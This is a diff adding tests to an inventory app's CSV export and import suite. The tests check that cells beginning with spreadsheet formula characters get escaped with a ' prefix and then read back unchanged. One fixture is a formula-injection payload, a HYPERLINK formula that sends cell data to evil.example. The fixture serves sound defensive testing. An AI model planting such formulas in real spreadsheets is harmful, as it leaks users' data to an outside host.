@@ -10,7 +10,11 @@ const name = fc
   .stringMatching(/^[A-Za-zÄÖÜäöüß0-9 ,"'.\n-]{1,12}$/)
   .map((s) => s.trim())
   .filter((s) => s !== "" && !s.includes("\n"));
-const text = fc.stringMatching(/^[A-Za-z0-9 ,"'\n.-]{0,20}$/);
+/** Texts with what spreadsheets read as formulas (`=`, `+`, `-`, `@`, tab) and the export's `'` prefix. */
+const text = fc.oneof(
+  fc.stringMatching(/^[A-Za-z0-9 ,"'\n.-]{0,20}$/),
+  fc.stringMatching(/^'{0,2}[=+@\t-][A-Za-z0-9 ,"'.-]{0,10}$/),
+);
 
 const inventory = fc.record({
   locations: fc.uniqueArray(fc.record({ name, parent: fc.nat() }), {
@@ -102,6 +106,27 @@ async function view(s: Session) {
 
 describe("CSV export → import into an empty group reproduces the inventory (property)", () => {
   const { svc } = useSignedInService({ names: [] });
+
+  it("neutralizes cells a spreadsheet would run as formulas, and the import reads them back as they were", async () => {
+    const [source, target] = [await signUp(svc, "Formulas"), await signUp(svc, "Formulas copy")];
+    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Details")';
+    const res = await source.req("POST", "/v1/entities", {
+      name: "+Drill",
+      description: formula,
+      notes: "@SUM(A1)",
+      fields: [{ name: "Offset", type: "text", textValue: "-2" }],
+    });
+    expect(res.status, JSON.stringify(res.body)).toBe(201);
+    const csv = (await source.req("GET", "/v1/entities/export")).body as string;
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Details"")"`);
+    expect(csv).toMatch(/,'\+Drill,/);
+    expect(csv).toMatch(/,'@SUM\(A1\),/);
+    expect(csv).toMatch(/,'-2\r\n/);
+    expect((await importCsvText(target, csv)).status).toBe(200);
+    expect(await view(target)).toEqual(await view(source));
+    const [copy] = (await target.req("GET", "/v1/entities?q=Drill")).body.items as Array<{ name: string }>;
+    expect(copy?.name).toBe("+Drill");
+  });
 
   it("every item, location path, tag and custom field comes back", async () => {
     await fc.assert(
